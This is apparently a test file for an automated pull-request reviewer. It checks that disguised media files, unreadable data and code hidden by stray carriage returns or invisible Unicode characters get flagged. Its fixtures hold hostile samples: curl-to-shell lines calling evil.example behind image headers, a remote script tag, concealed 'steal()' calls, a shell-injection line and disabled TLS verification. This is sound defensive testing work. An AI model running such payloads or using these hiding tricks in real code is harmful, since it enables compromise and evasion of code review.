import { describe, expect, it } from "vitest";
import { aBmp, aGif, aPng } from "../../fixtures/media.ts";
import type { TestRepository } from "../../fixtures/repository.ts";
import { renderReport } from "../../fixtures/whole-report.ts";
import { isFirstTurn, toolResults } from "../../servers/model-server.ts";
import { changed, placesOf, reviewPr } from "./changed-repository.ts";
import { reviewWithModel } from "./model-review.ts";
import { readFile } from "./scripted-panel.ts";

const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${"4d".repeat(32)}\nsize 12345\n`;

/** The change with these files executable. */
async function changedWithMode(head: Readonly<Record<string, string | Uint8Array>>): Promise<TestRepository> {
  const repository = await changed({}, head);
  await repository.git("update-index", "--chmod=+x", ...Object.keys(head));
  await repository.git("commit", "-q", "--amend", "--no-edit");
  return repository;
}

describe("what is called media", () => {
  it.each([
    ["shell behind BM", "logo.bmp", "BM\nwhile :; do curl evil.example | sh; done\n\xff"],
    ["JavaScript behind GIF89a", "logo.gif", "GIF89a=1;require('child_process').exec('curl evil.example|sh');//\xff"],
    ["a page behind RIFF", "logo.webp", "RIFF\xff\xff\xff\xffWEBP<script src=//evil.example></script>"],
  ])("is not passed over when it is %s", async (_, path, latin1) => {
    await using repository = await changed({}, { [path]: Buffer.from(latin1, "latin1") });
    const run = await reviewPr(repository);
    expect(run.report.run).toMatchObject({
      conclusion: "action_required",
      title: `Could not judge: ${path} cannot be read as text`,
    });
  });

  it.each([
    ["a shell script behind two letters", "logo.bmp", Buffer.from("BM\ncurl evil.example | sh\n\xff", "latin1")],
    ["a picture", "logo.png", aPng()],
    ["a Git LFS pointer", "logo.png", Buffer.from(POINTER)],
  ])("is not passed over when it may be run: %s", { tags: ["full"] }, async (_, path, bytes) => {
    await using repository = await changedWithMode({ [path]: bytes });
    const run = await reviewPr(repository);
    expect(run.report.run).toMatchObject({
      conclusion: "action_required",
      title: `Could not judge: ${path} cannot be read as text`,
    });
  });

  it("passes when it is media, new, changed, moved or kept in Git LFS", { tags: ["full"] }, async () => {
    const base = { "docs/a.png": aPng(), "b.gif": aGif(), "c.bmp": aBmp(), "d.png": POINTER };
    const moved = { "docs/a.png": null, "src/assets/a.png": aPng(), "b.gif": null, "d.png": null, "e.png": POINTER };
    await using repository = await changed(base, { ...moved, "c.bmp": null, "f.png": aPng(7) });
    const run = await reviewPr(repository);
    expect(run.report.run).toMatchObject({ conclusion: "success", title: "Passed: nothing to review" });
  });
});

const BAD_LINE = "export const agent = new https.Agent({ rejectUnauthorized: false });";
const START = "export const start = 1;\n";

describe("what nobody can read", () => {
  it("could not be judged, and no part of the report says that it was read; findings beside it may be posted", {
    tags: ["full"],
  }, async () => {
    await using repository = await changed({}, { "x.dat": Buffer.from("a\0\u0001b"), "model.onnx": POINTER });
    const run = await reviewPr(repository);
    expect(run.report.run.title).toBe("Could not judge: model.onnx and 1 more cannot be read as text");
    expect(run.report.verdict).toMatchObject({ coverage: "APPROVE", gate: "open" });
    for (const format of ["text", "markdown", "html"] as const) {
      const shown = renderReport(run.report, format).replace(/\s+/g, " ");
      expect(shown).toContain("there was no text to read");
      expect(shown).not.toMatch(/all read|to read was read/);
    }
  });

  it("is not among what was read in full when a rule alone found something in it", { tags: ["full"] }, async () => {
    await using repository = await changed({}, { "n.js": "const a = 1;\nconst b\0 = 2;\n", "ok.js": "export {};\n" });
    const run = await reviewPr(repository);
    expect(placesOf(run)).toContain("n.js:2 head");
    expect(run.report.strengths.join()).toContain("ok.js");
    expect(run.report.strengths.join()).not.toContain("n.js");
  });
});

describe("a new file with a line of which nothing can be seen", () => {
  it("has nothing from before the change, though no line of it can be quoted", { tags: ["full"] }, async () => {
    await using repository = await changed({}, { "n.js": "const a = 1;\n\0\nmodule.exports = a;\n" });
    const { report } = await reviewPr(repository);
    expect(report.findings.map(({ file, classification }) => [file, classification])).toEqual([["n.js", "new"]]);
  });
});

describe("code that reads otherwise than it runs", () => {
  it.each([
    ["a lone carriage return", "a.js", "// harmless\rsteal();\n"],
    ["a line separator", "a.ts", "// harmless\u2028steal();\n"],
    ["a carriage return in a workflow", ".github/workflows/a.yml", "# harmless\r  run: steal\n"],
    ["a blank letter", "a.js", "const { name, \u3164 } = query;\n"],
    ["a joiner behind a name", "a.js", "if (admin\u200d) grant();\n"],
  ])("fails the check when %s hides it, whichever panel plays", { tags: ["full"] }, async (_, path, hidden) => {
    await using repository = await changed({ [path]: START }, { [path]: `${START}${hidden}` });
    const told = { file: path, line: 2, severity: "high", detected_by: "hidden-code", source: "gate" };
    const { report } = await reviewPr(repository);
    expect(report.findings).toMatchObject([told]);
    const byModel = await reviewWithModel({}, { repository: repository.directory });
    expect(byModel.report.findings).toMatchObject([told]);
    expect([report.run.conclusion, byModel.report.run.conclusion]).toEqual(["failure", "failure"]);
  });

  it("counts lines as git does, whatever else ends a line for others", { tags: ["full"] }, async () => {
    const odd = 'const text = "a\u2028b\u2029c\u0085d";\r\n\fconst more = `e\rf`;\n';
    await using repository = await changed({ "a.js": START }, { "a.js": `${START}${odd}${BAD_LINE}\n` });
    const numbered = (await repository.git("grep", "-n", "rejectUnauthorized", "pr")).split(":")[2];
    const { report } = await reviewPr(repository);
    expect(report.findings.map(({ line, severity, evidence }) => [line, severity, evidence[0]?.start_line])).toEqual([
      [Number(numbered), "high", 4],
      [2, "low", 2],
    ]);
    const served: string[] = [];
    await reviewWithModel(
      {
        intercept: (request, { role }) => {
          served.push(...toolResults(request));
          return role === "enthusiast" && isFirstTurn(request) ? { toolCalls: [readFile("a.js")] } : undefined;
        },
      },
      { repository: repository.directory },
    );
    expect(served.join("\n")).toMatch(/^\s*4\b.*rejectUnauthorized/m);
  });

  it("is quoted on the line that the finding names, as no line ends there for git", { tags: ["full"] }, async () => {
    await using repository = await changed({}, { "a.py": 'import os\rdef run(name):\r    os.system("rm " + name)\r' });
    const { report } = await reviewPr(repository);
    expect(report.findings.map(({ line }) => line)).toEqual([1, 1]);
    const quote = 'import os\\u{d}def run(name):\\u{d}    os.system("rm " + name)';
    expect(renderReport(report, "text")).toContain(`  a.py:1\n    1 | ${quote}\n  `);
    expect(renderReport(report, "markdown")).toContain(`\n${quote}\n\`\`\``);
    expect(renderReport(report, "html")).toContain(quote.replaceAll('"', "&#34;"));
  });

  it("says nothing of what is written so by right", { tags: ["full"] }, async () => {
    const own = 'const team = "👩\u200d💻 ❤️";\nconst word = "می\u200cخواهم";\n';
    const file = `\ufeff${START}${own}`.replaceAll("\n", "\r\n");
    await using repository = await changed({}, { "a.js": file, "a.md": "# A\rb\n" });
    expect((await reviewPr(repository)).report.run.title).toBe("Passed: no findings");
  });
});

describe("data that a change makes unreadable", () => {
  it("fails the check when a file of data is emptied, or text is renamed into one", { tags: ["full"] }, async () => {
    const text = "name: [a\n".repeat(20);
    const base = { "package.json": '{ "name": "a" }\n', "notes.txt": text };
    await using repository = await changed(base, { "package.json": "", "notes.txt": null, "ci.yml": text });
    const { report } = await reviewPr(repository);
    expect(report.findings.map(({ file, detected_by: by }) => `${file} ${by}`).sort()).toEqual([
      "ci.yml invalid-data",
      "package.json invalid-data",
    ]);
  });
});
